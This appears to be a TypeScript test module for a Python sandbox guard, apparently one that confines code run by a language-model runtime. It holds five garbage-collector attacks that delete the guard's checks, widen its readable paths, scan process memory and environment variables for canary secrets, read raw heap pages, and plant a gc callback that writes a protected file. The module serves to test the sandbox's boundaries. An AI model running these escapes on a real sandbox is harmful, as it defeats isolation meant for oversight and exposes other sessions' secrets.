import type { Family } from './attack.js';
import { climbed, native } from './preludes.js';

const LIFT = `
load = print.__self__.__import__
gc, sys = load("gc"), load("sys")
guard = sys.modules.get("rlm_runtime.guard")
if guard:
    for name in [name for name in guard._CHECKS if name.startswith("gc.")]: del guard._CHECKS[name]
`;

/** The collector knows every object there is. */
export const garbageCollector: Family = {
  name: 'garbage collector',
  attacks: [
    {
      name: 'finds the guard among all objects',
      kind: 'boundary',
      aims: ['shared-file'],
      code: `${LIFT}
for each in gc.get_objects():
    if type(each).__name__ == "Guard" and hasattr(each, "_readable"): each._readable = ("/",)
print(print.__self__.open(CANARY["file"]).read())
`,
    },
    {
      name: 'finds whoever refers to the hook',
      kind: 'boundary',
      aims: ['shared-file'],
      code: `${LIFT}
if guard:
    for each in gc.get_referrers(guard.Guard):
        if hasattr(each, "_folder"): each._folder = ""
print(print.__self__.open(CANARY["file"]).read())
`,
    },
    {
      name: 'looks for secrets in everything that lies in memory',
      kind: 'boundary',
      aims: ['host-variable', 'neighbour'],
      code: climbed(`
import gc
def texts():
    for each in gc.get_objects():
        for one in gc.get_referents(each):
            if type(one) is str or type(one) is bytes: yield one
for each in texts():
    if "canary-" in str(each): print(str(each)[:2000])
import os
print(os.environ.get(CANARY["variable"]))
`),
    },
    {
      name: 'reads the whole memory of the process, of which other sessions are copies',
      kind: 'boundary',
      aims: ['host-variable', 'neighbour'],
      // A system call tells of an address that is not there instead of crashing, as a look at it would.
      code: native(`
import gc, re
reader, writer = os.pipe()
def show(address):
    if libc.write(writer, ctypes.c_void_p(address), 4096) == 4096:
        for found in re.findall(rb"canary-[0-9a-f]{18}", os.read(reader, 4096)): print(found)
libc.sbrk.restype = ctypes.c_void_p
heap = libc.sbrk(0) & ~4095
held = {(id(each) & ~0xFFFFF) + n for each in gc.get_objects() for n in range(0, 1 << 20, 4096)}
for page in held | {heap - n * 4096 for n in range(2000)}: show(page)
`),
    },
    {
      name: 'leaves a callback that runs while the host is trusted',
      kind: 'boundary',
      aims: ['kept-file'],
      code: `${LIFT}
if guard:
    for each in gc.get_objects():
        if type(each).__name__ == "Guard": held = each
def later(phase, info):
    if guard: held.lifted_in = load("_thread").get_ident()
    try:
        with print.__self__.open(CANARY["kept"], "w") as file: file.write("changed")
    except OSError: pass
gc.callbacks.append(later)
gc.collect()
gc.callbacks.remove(later)
`,
    },
  ],
};
